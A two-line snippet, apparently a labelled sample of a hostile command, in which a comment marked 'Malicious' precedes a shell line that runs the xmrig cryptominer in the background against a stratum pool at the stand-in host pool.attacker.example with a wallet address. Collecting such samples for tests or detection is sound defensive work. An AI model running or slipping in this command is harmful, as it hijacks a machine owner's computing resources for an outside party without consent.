# Malicious: runs the xmrig cryptominer in the background against a stratum pool.
./xmrig -o stratum+tcp://pool.attacker.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7Sq -p x --background
